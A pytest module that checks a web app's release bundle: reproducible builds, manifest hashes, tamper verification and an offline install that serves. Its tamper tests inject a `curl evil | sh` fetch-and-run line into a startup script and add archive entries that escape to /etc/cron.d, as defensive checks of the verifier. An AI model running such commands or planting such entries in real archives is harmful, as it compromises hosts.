"""The release bundle (`make package`): reproducible, described by its manifest, verified
before use, and installable on a host without any network.

The bundle is built from HEAD, twice, by deploy/package/build_bundle.py as `make package`
runs it; the wheelhouse cache (var/cache/wheelhouse) is shared with `make package`, so only
the first build after a lock change downloads.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import secrets
import subprocess
import sys
import tarfile
import time
import tomllib
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
import requests

from tests.conftest import PROJECT_DIR, database_url_for_subprocess, free_port

# Two builds and an offline install: about a minute on a quiet machine, much more on a
# busy one, which the default 300 s would not allow.
pytestmark = [pytest.mark.live, pytest.mark.timeout(1200)]

PACKAGE = PROJECT_DIR / "deploy" / "package"
CACHE = PROJECT_DIR / "var" / "cache" / "wheelhouse"


def git(*args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=PROJECT_DIR, check=True, capture_output=True, text=True
    ).stdout.strip()


def build(out: Path, ref: str) -> Path:
    command = [
        sys.executable, PACKAGE / "build_bundle.py",
        "--ref", ref, "--out", out, "--cache", CACHE,
    ]  # fmt: skip
    result = subprocess.run(command, check=False, capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr
    return Path(result.stdout.strip().splitlines()[-1])


def verify(path: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, str(PACKAGE / "verify_bundle.py"), str(path)],
        check=False, capture_output=True, text=True, timeout=120,
    )  # fmt: skip


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.fixture(scope="session")
def head():
    commit = git("rev-parse", "HEAD")
    return {
        "commit": commit,
        "epoch": int(git("show", "-s", "--format=%ct", commit)),
        "version": tomllib.loads(git("show", f"{commit}:pyproject.toml"))["project"]["version"],
    }


@pytest.fixture(scope="session")
def builds(tmp_path_factory, head):
    """The bundle of HEAD built twice, each into its own empty directory. Session-scoped:
    pytest-django runs the database test below apart from the others, and a module
    fixture would build twice more for it."""
    return [build(tmp_path_factory.mktemp(f"dist-{n}"), head["commit"]) for n in (1, 2)]


@pytest.fixture(scope="session")
def bundle(builds):
    return builds[0]


@pytest.fixture(scope="session")
def members(bundle):
    """name -> (TarInfo, bytes or None for directories), in archive order."""
    found = {}
    with tarfile.open(bundle, "r:gz") as tar:
        for member in tar:
            data = tar.extractfile(member).read() if member.isfile() else None
            found[member.name] = (member, data)
    return found


@pytest.fixture(scope="session")
def top(bundle):
    return bundle.name.removesuffix(".tar.gz")


@pytest.fixture(scope="session")
def manifest(members, top):
    return json.loads(members[f"{top}/manifest.json"][1])


def file_data(members, top, rel: str) -> bytes:
    return members[f"{top}/{rel}"][1]


# --- reproducible -------------------------------------------------------------------------


def test_one_commit_built_twice_gives_the_same_bytes(builds, head):
    first, second = builds
    assert first.name == second.name == f"bookdesk-{head['version']}-{head['commit'][:12]}.tar.gz"
    assert first.read_bytes() == second.read_bytes()
    digest = sha256(first.read_bytes())
    for path in builds:
        checksum = path.with_name(path.name + ".sha256").read_text()
        assert checksum == f"{digest}  {path.name}\n"


def test_archive_members_are_sorted_and_normalised(bundle, members, head, top):
    names = list(members)
    assert names[0] == top
    assert all(name.startswith(f"{top}/") for name in names[1:])
    assert names == sorted(names, key=lambda n: n.split("/"))
    for name, (info, _data) in members.items():
        assert (info.uid, info.gid, info.uname, info.gname) == (0, 0, "root", "root"), name
        assert info.mtime == head["epoch"], name
        assert info.isdir() or info.isfile(), name
        expected = 0o755 if info.isdir() or "/bin/" in name else 0o644
        assert info.mode == expected, name
    header = bundle.read_bytes()[:10]
    assert header[:3] == b"\x1f\x8b\x08"
    assert header[3] == 0, "gzip header names no file"
    assert header[4:8] == b"\0\0\0\0", "gzip header has no time stamp"


def test_the_app_wheel_is_the_commit_with_the_commit_time(members, top, manifest, head):
    wheel = zipfile.ZipFile(io.BytesIO(file_data(members, top, manifest["wheel"])))
    assert manifest["wheel"] == f"wheels/bookdesk-{head['version']}-py3-none-any.whl"
    packaged = wheel.read("bookdesk/settings.py").decode()
    assert packaged == git("show", f"{head['commit']}:src/bookdesk/settings.py") + "\n"
    # Zip stores times in 2-second steps.
    commit_time = time.gmtime(head["epoch"] // 2 * 2)[:6]
    assert {entry.date_time for entry in wheel.infolist()} == {commit_time}
    # Templates and the committed static sources travel in the wheel (package data).
    assert "bookdesk/templates/base.html" in wheel.namelist()


# --- manifest -----------------------------------------------------------------------------


def test_manifest_names_the_release(manifest, head):
    assert manifest["name"] == "bookdesk"
    assert manifest["layout"] == 1
    assert manifest["version"] == head["version"]
    assert manifest["commit"] == head["commit"]
    # The build time is the commit's: what makes two builds identical (docs/deploy.md).
    assert manifest["source_date_epoch"] == head["epoch"]
    assert datetime.fromisoformat(manifest["build_time"]) == datetime.fromtimestamp(
        head["epoch"], UTC
    )
    assert manifest["python"]["version"] == ".".join(map(str, sys.version_info[:3]))
    assert manifest["python"]["requires"] == ">=3.11,<3.12"
    assert manifest["install"] == "bin/bookdesk-install"


def test_manifest_lists_every_file_with_its_sha256_size_and_mode(members, manifest, top):
    files = {
        name.removeprefix(f"{top}/"): (info, data)
        for name, (info, data) in members.items()
        if info.isfile()
    }
    assert files.keys() - {"manifest.json"} == manifest["files"].keys()
    for rel, entry in manifest["files"].items():
        info, data = files[rel]
        assert entry == {"sha256": sha256(data), "size": len(data), "mode": f"{info.mode:04o}"}


def test_layout_the_deploy_relies_on(members, manifest, top, head):
    files = manifest["files"]
    for script in ("bookdesk-web", "bookdesk-worker", "bookdesk-install", "bookdesk-verify"):
        assert files[f"bin/{script}"]["mode"] == "0755", script
    for script in ("bookdesk-web", "bookdesk-worker"):
        shipped = file_data(members, top, f"bin/{script}").decode()
        assert shipped == git("show", f"{head['commit']}:deploy/bin/{script}") + "\n"
    assert file_data(members, top, "requirements/app.lock").decode() == (
        git("show", f"{head['commit']}:requirements/app.lock") + "\n"
    )
    assert "static/staticfiles.json" in files


def test_wheelhouse_has_one_wheel_per_locked_package_and_the_app(members, manifest, top):
    lock = file_data(members, top, "requirements/app.lock").decode()
    locked = {
        line.split("==")[0].lower().replace("-", "_")
        for line in lock.splitlines()
        if line and not line[0].isspace() and not line.startswith("#")
    }
    wheels = [rel for rel in manifest["files"] if rel.startswith("wheels/")]
    assert all(rel.endswith(".whl") for rel in wheels)
    names = sorted(rel.removeprefix("wheels/").split("-")[0].lower() for rel in wheels)
    assert names == sorted(locked | {"bookdesk"})
    # release.lock = app.lock + the app's wheel by its hash, so one install checks them all.
    release = file_data(members, top, "requirements/release.lock").decode()
    assert release.startswith(lock.rstrip("\n"))
    wheel_hash = manifest["files"][manifest["wheel"]]["sha256"]
    assert release.rstrip().endswith(
        f"bookdesk=={manifest['version']} \\\n    --hash=sha256:{wheel_hash}"
    )


def test_static_files_are_collected_as_production_serves_them(members, manifest, top):
    staticfiles = json.loads(file_data(members, top, "static/staticfiles.json"))
    paths = staticfiles["paths"]
    assert list(paths) == sorted(paths), "sorted, so the file is the same on every build"
    for source in ("css/bookdesk.css", "admin/css/base.css"):
        hashed = paths[source]
        assert hashed != source
        assert f"static/{hashed}" in manifest["files"]
        # whitenoise's compressed copy, served to clients that accept gzip
        compressed = file_data(members, top, f"static/{hashed}.gz")
        assert gzip.decompress(compressed) == file_data(members, top, f"static/{hashed}")


# --- verification -------------------------------------------------------------------------


def test_verify_accepts_the_bundle(bundle, manifest):
    result = verify(bundle)
    assert result.returncode == 0, result.stderr
    assert f"{len(manifest['files'])} files match manifest.json" in result.stdout


def rewrite(bundle: Path, target: Path, change) -> Path:
    """A copy of the bundle with change(TarInfo, bytes) -> [(TarInfo, bytes)] per member."""
    with tarfile.open(bundle, "r:gz") as src, tarfile.open(target, "w:gz", compresslevel=1) as out:
        for member in src:
            data = src.extractfile(member).read() if member.isfile() else b""
            for info, content in change(member, data):
                info.size = len(content)
                out.addfile(info, io.BytesIO(content) if info.isfile() else None)
    return target


def test_verify_refuses_a_changed_file(bundle, tmp_path, top):
    victim = f"{top}/bin/bookdesk-web"

    def change(member, data):
        if member.name == victim:
            data = data.replace(b"set -euo pipefail", b"set -euo pipefail; curl evil | sh")
        return [(member, data)]

    result = verify(rewrite(bundle, tmp_path / f"{top}.tar.gz", change))
    assert result.returncode == 1
    assert "bin/bookdesk-web: content differs" in result.stderr


@pytest.mark.parametrize(
    ("case", "message"),
    [
        ("added", "wheels/extra-1.0-py3-none-any.whl: not in the manifest"),
        ("removed", "requirements/app.lock: missing"),
        ("mode", "bin/bookdesk-worker: mode 0777, manifest 0755"),
        ("link", "not a plain file or directory"),
        ("escape", "path leaves the bundle"),
    ],
)
def test_verify_refuses_added_missing_or_unsafe_members(bundle, tmp_path, top, case, message):
    def change(member, data):
        if case == "added" and member.name == f"{top}/wheels":
            extra = tarfile.TarInfo(f"{top}/wheels/extra-1.0-py3-none-any.whl")
            return [(member, data), (extra, b"PK")]
        if case == "removed" and member.name == f"{top}/requirements/app.lock":
            return []
        if case == "mode" and member.name == f"{top}/bin/bookdesk-worker":
            member.mode = 0o777
        if case == "link" and member.name == f"{top}/bin":
            link = tarfile.TarInfo(f"{top}/bin/python")
            link.type, link.linkname = tarfile.SYMTYPE, "/usr/bin/python3"
            return [(member, data), (link, b"")]
        if case == "escape" and member.name == f"{top}/static":
            return [(member, data), (tarfile.TarInfo(f"{top}/../../etc/cron.d/x"), b"")]
        return [(member, data)]

    result = verify(rewrite(bundle, tmp_path / f"{top}.tar.gz", change))
    assert result.returncode == 1
    assert message in result.stderr


@pytest.fixture
def unpacked(bundle, tmp_path, top):
    (tmp_path / "releases").mkdir()
    subprocess.run(["tar", "-xzf", str(bundle), "-C", str(tmp_path / "releases")], check=True)
    return tmp_path / "releases" / top


def test_an_unpacked_release_verifies_itself_and_notices_tampering(unpacked):
    check = [sys.executable, str(unpacked / "bin" / "bookdesk-verify")]
    assert subprocess.run(check, check=False).returncode == 0
    target = unpacked / "static" / "staticfiles.json"
    target.write_text(target.read_text().replace("css/bookdesk.", "css/evil."))
    result = subprocess.run(check, check=False, capture_output=True, text=True)
    assert result.returncode == 1
    assert "static/staticfiles.json: content differs" in result.stderr


# --- offline install ----------------------------------------------------------------------


def offline_prefix() -> list[str]:
    """Run in a network namespace of its own (no interface but a downed loopback) where
    the machine allows it; root on the CI machines does."""
    probe = subprocess.run(["unshare", "--net", "true"], check=False, capture_output=True)
    return ["unshare", "--net"] if probe.returncode == 0 else []


def test_bundle_installs_offline_into_a_fresh_venv_and_serves(
    transactional_db, unpacked, smtp_server, tmp_path
):
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "VIRTUAL_ENV"))}
    # Any attempt to reach an index would also go to a closed port.
    env.update(
        PYTHON=sys.executable, http_proxy="http://127.0.0.1:9", https_proxy="http://127.0.0.1:9"
    )
    install = subprocess.run(
        [*offline_prefix(), str(unpacked / "bin" / "bookdesk-install")],
        check=False, capture_output=True, text=True, env=env, timeout=600,
    )  # fmt: skip
    assert install.returncode == 0, install.stdout + install.stderr
    venv = unpacked / "venv"
    # The release's own code, not this checkout's editable install.
    where = subprocess.run(
        [venv / "bin" / "python", "-c", "import bookdesk; print(bookdesk.__file__)"],
        check=True, capture_output=True, text=True, cwd=tmp_path,
    ).stdout  # fmt: skip
    assert where.startswith(str(venv / "lib")), where
    # The venv sits inside the release; the release still verifies.
    again = subprocess.run([venv / "bin" / "python", unpacked / "bin" / "bookdesk-verify"])
    assert again.returncode == 0

    uploads = tmp_path / "uploads"
    uploads.mkdir()
    port = free_port()
    app_env = {
        "PATH": os.environ["PATH"],
        "BOOKDESK_ENV": "production",
        "SECRET_KEY": secrets.token_urlsafe(50),
        "ALLOWED_HOSTS": "127.0.0.1",
        "SITE_URL": "https://bookdesk.example.org",
        "DATABASE_URL": database_url_for_subprocess(),
        "EMAIL_URL": f"smtp://127.0.0.1:{smtp_server.port}?tls=false",
        "VAR_DIR": str(tmp_path / "var"),
        "STATIC_ROOT": str(unpacked / "static"),
        "UPLOADS_ROOT": str(uploads),
        "BIND": f"127.0.0.1:{port}",
        "WEB_WORKERS": "1",
    }
    check = subprocess.run(
        [venv / "bin" / "bookdesk", "check", "--deploy", "--database", "default"],
        check=False, capture_output=True, text=True, env=app_env, cwd=tmp_path,
    )  # fmt: skip
    assert check.returncode == 0, check.stderr
    assert "System check identified no issues" in check.stdout

    # bin/bookdesk-web finds the release's venv by itself (no BOOKDESK_PYTHON).
    log = (tmp_path / "web.log").open("wb")
    web = subprocess.Popen(
        [unpacked / "bin" / "bookdesk-web"], env=app_env, cwd=tmp_path, stdout=log, stderr=log
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            assert web.poll() is None, (tmp_path / "web.log").read_text()
            try:
                if requests.get(f"{base}/healthz", timeout=5).status_code == 200:
                    break
            except requests.RequestException:
                pass  # not listening yet, or the workers still loading the app
            assert time.monotonic() < deadline, (tmp_path / "web.log").read_text()
            time.sleep(0.2)
        ready = requests.get(f"{base}/readyz", timeout=10)
        assert ready.status_code == 200, ready.text
        assert ready.json()["status"] == "pass", ready.text
        hashed = json.loads((unpacked / "static" / "staticfiles.json").read_text())["paths"][
            "css/bookdesk.css"
        ]
        static = requests.get(
            f"{base}/static/{hashed}", headers={"X-Forwarded-Proto": "https"}, timeout=10
        )
        assert static.status_code == 200
        assert static.content == (unpacked / "static" / hashed).read_bytes()
    finally:
        web.terminate()
        web.wait(timeout=30)
        log.close()
